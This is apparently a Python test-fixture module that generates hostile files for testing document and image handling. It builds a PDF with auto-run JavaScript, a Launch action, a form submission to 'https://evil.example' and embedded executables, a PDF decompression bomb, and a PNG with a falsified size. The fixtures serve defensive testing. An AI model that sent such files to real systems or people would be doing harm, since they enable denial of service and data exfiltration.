"""Files for tests, made on the spot: documents, pictures and what attackers make of them."""

import io
import math
import os
import zlib
from typing import Any

import pikepdf
from PIL import Image


def a_pdf(pages: int = 1, **save: Any) -> bytes:
    """A plain PDF of blank pages."""
    pdf = pikepdf.new()
    for _ in range(pages):
        pdf.add_blank_page(page_size=(595, 842))
    return saved(pdf, **save)


def saved(pdf: pikepdf.Pdf, **save: Any) -> bytes:
    """The bytes of a PDF."""
    out = io.BytesIO()
    pdf.save(out, **save)
    return out.getvalue()


def a_dangerous_pdf() -> bytes:
    """A PDF that runs script on opening, launches programs, submits forms and carries a file."""
    pdf = pikepdf.new()
    pdf.add_blank_page()
    pdf.attachments["payload.exe"] = b"MZ payload"
    script = pikepdf.Dictionary(S=pikepdf.Name.JavaScript, JS=pikepdf.String("app.alert('evil')"))
    pdf.Root.OpenAction = pdf.make_indirect(script)
    pdf.Root.AA = pikepdf.Dictionary(WC=script)
    pdf.Root.Names.JavaScript = pikepdf.Dictionary(Names=pikepdf.Array([pikepdf.String("evil"), script]))
    pdf.Root.AcroForm = pikepdf.Dictionary(Fields=pikepdf.Array(), XFA=pdf.make_stream(b"<xdp:xdp>evil</xdp:xdp>"))
    launch = pikepdf.Dictionary(S=pikepdf.Name.Launch, F=pikepdf.String("evil.exe"))
    submit = pikepdf.Dictionary(
        S=pikepdf.Name.SubmitForm, F=pikepdf.String("https://evil.example"), Next=pikepdf.Array([launch])
    )
    harmless = pikepdf.Dictionary(S=pikepdf.Name.GoTo, D=pikepdf.String("chapter"), Next=script)
    rectangle = pikepdf.Array([0, 0, 10, 10])
    filespec = pikepdf.Dictionary(
        Type=pikepdf.Name.Filespec,
        F=pikepdf.String("worm.exe"),
        EF=pikepdf.Dictionary(F=pdf.make_stream(b"MZ worm")),
    )
    pdf.pages[0].Annots = pikepdf.Array(
        [
            pikepdf.Dictionary(Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.Link, Rect=rectangle, A=action)
            for action in (script, launch, submit, harmless)
        ]
        + [
            pikepdf.Dictionary(
                Type=pikepdf.Name.Annot, Subtype=pikepdf.Name.FileAttachment, Rect=rectangle, FS=filespec
            )
        ]
    )
    return saved(pdf)


def _packed(content: bytes) -> bytes:
    """A part of a packed stream that does not look back at the parts before it."""
    packer = zlib.compressobj(6, wbits=-zlib.MAX_WBITS)
    return packer.compress(content) + packer.flush(zlib.Z_FULL_FLUSH)


def an_unfolding_pdf(megabytes: int) -> bytes:
    """A small PDF whose objects unfold into ``megabytes`` of memory when it is opened."""
    first, rest = b"2 0 << /Type /Catalog /Pages 3 0 R >> ", b" " * 1024 * 1024
    # One packed megabyte, written again and again: to pack them all took seconds.
    check = zlib.adler32(first)
    for _ in range(megabytes):
        check = zlib.adler32(rest, check)
    packed = b"\x78\x9c" + _packed(first) + _packed(rest) * megabytes + b"\x03\x00" + check.to_bytes(4, "big")
    parts = [b"%PDF-1.7\n"]
    parts.append(
        b"1 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Filter /FlateDecode /Length %d >>\nstream\n" % len(packed)
        + packed
        + b"\nendstream\nendobj\n"
    )
    pages_at = sum(map(len, parts))
    parts.append(b"3 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n")
    table_at = sum(map(len, parts))
    rows = b"".join(
        kind.to_bytes(1, "big") + where.to_bytes(4, "big") + which.to_bytes(1, "big")
        for kind, where, which in ((0, 0, 0), (1, 9, 0), (2, 1, 0), (1, pages_at, 0), (1, table_at, 0))
    )
    parts.append(
        b"4 0 obj\n<< /Type /XRef /Size 5 /Root 2 0 R /W [1 4 1] /Length %d >>\nstream\n" % len(rows)
        + rows
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF" % table_at
    )
    return b"".join(parts)


def a_large_pdf(size_bytes: int) -> bytes:
    """A PDF of one scanned page, a little smaller than ``size_bytes``: noise, which nothing can make smaller."""
    side = math.isqrt(size_bytes - 64 * 1024)
    pdf = pikepdf.new()
    page = pdf.add_blank_page(page_size=(595, 842))
    scan = pdf.make_stream(
        os.urandom(side * side),
        Type=pikepdf.Name.XObject,
        Subtype=pikepdf.Name.Image,
        Width=side,
        Height=side,
        ColorSpace=pikepdf.Name.DeviceGray,
        BitsPerComponent=8,
    )
    page.Resources = pikepdf.Dictionary(XObject=pikepdf.Dictionary(Scan=scan))
    page.Contents = pdf.make_stream(b"595 0 0 842 0 0 cm /Scan Do")
    return saved(pdf)


def a_large_photograph() -> bytes:
    """A photograph of noise that weighs between 15 and 20 MB."""
    out = io.BytesIO()
    Image.effect_noise((4600, 4600), 90).save(out, "JPEG", quality=93)
    return out.getvalue()


def a_picture(kind: str = "JPEG", size: tuple[int, int] = (40, 20), mode: str = "RGB", **save: Any) -> bytes:
    """A picture whose left half is dark and whose right half is light."""
    picture = Image.new(mode, size, "white" if mode != "P" else 0)
    picture.paste("black" if mode != "P" else 1, (0, 0, size[0] // 2, size[1]))
    out = io.BytesIO()
    picture.save(out, kind, **save)
    return out.getvalue()


def a_photograph_lying_on_its_side() -> bytes:
    """A JPEG whose camera says: turn me right; with the place where it was taken and a comment."""
    exif = Image.Exif()
    exif[0x0112] = 6
    exif[0x010F] = "SecretCamera"
    exif.get_ifd(0x8825)[1] = "N"
    exif.get_ifd(0x8825)[2] = (60.0, 38.0, 0.0)
    return a_picture(exif=exif, comment=b"secret comment")


def an_oversized_png(width: int, height: int) -> bytes:
    """A PNG of a few bytes that claims to be ``width`` by ``height`` pixels."""

    def chunk(kind: bytes, body: bytes) -> bytes:
        return len(body).to_bytes(4, "big") + kind + body + zlib.crc32(kind + body).to_bytes(4, "big")

    header = width.to_bytes(4, "big") + height.to_bytes(4, "big") + bytes([8, 2, 0, 0, 0])
    return (
        b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0" * 100)) + chunk(b"IEND", b"")
    )
